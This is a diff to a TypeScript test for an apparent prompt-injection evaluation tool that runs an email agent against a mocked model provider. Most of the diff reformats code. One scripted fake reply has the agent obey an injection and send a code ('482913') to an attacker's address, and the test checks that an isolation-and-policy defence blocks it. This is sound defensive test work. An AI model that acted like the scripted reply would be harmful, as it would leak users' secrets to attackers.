@@ -28,7 +28,9 @@ afterAll(async () => {
   for (const folder of folders) rmSync(folder, { recursive: true, force: true });
 });
 
-const replyToBob: FakeReply = { toolCalls: [{ name: 'send_email', arguments: { to: [PEOPLE.bob], subject: 'Re: Lunch on Thursday?', body: "12:30 at Luigi's works for me." } }] };
+const replyToBob: FakeReply = {
+  toolCalls: [{ name: 'send_email', arguments: { to: [PEOPLE.bob], subject: 'Re: Lunch on Thursday?', body: "12:30 at Luigi's works for me." } }],
+};
 
 describe('toolwright eval against a provider', () => {
   it('runs the cases over the wire, pinned, isolated, and blocks the obeyed injection', async () => {
@@ -36,12 +38,26 @@ describe('toolwright eval against a provider', () => {
     folders.push(out);
     // Clean case, then injection_task_1 (obeyed), then injection tasks 2-7 (ignored): one script per case, in order.
     server.enqueue({ toolCalls: [{ name: 'list_emails', arguments: {} }] }, replyToBob, { text: 'Replied to Bob.' });
-    server.enqueue({ toolCalls: [{ name: 'list_emails', arguments: {} }] }, { toolCalls: [{ name: 'send_email', arguments: { to: [ATTACKER.email], subject: 'Code', body: '482913' } }] }, replyToBob, { text: 'Done.' });
+    server.enqueue(
+      { toolCalls: [{ name: 'list_emails', arguments: {} }] },
+      { toolCalls: [{ name: 'send_email', arguments: { to: [ATTACKER.email], subject: 'Code', body: '482913' } }] },
+      replyToBob,
+      { text: 'Done.' },
+    );
     for (let index = 2; index <= 7; index++) server.enqueue({ toolCalls: [{ name: 'list_emails', arguments: {} }] }, replyToBob, { text: 'Replied to Bob.' });
 
     const stdout: string[] = [];
     const code = await runEvalCommand(
-      { model: 'openai:gpt-test', baseUrl: server.openaiBaseURL, out, limit: '1', strategies: 'isolation+policy', seed: '5', temperature: '0', progress: false },
+      {
+        model: 'openai:gpt-test',
+        baseUrl: server.openaiBaseURL,
+        out,
+        limit: '1',
+        strategies: 'isolation+policy',
+        seed: '5',
+        temperature: '0',
+        progress: false,
+      },
       { out: (text) => stdout.push(text), err: () => {}, errIsTty: false },
     );
     expect(code).toBe(0);
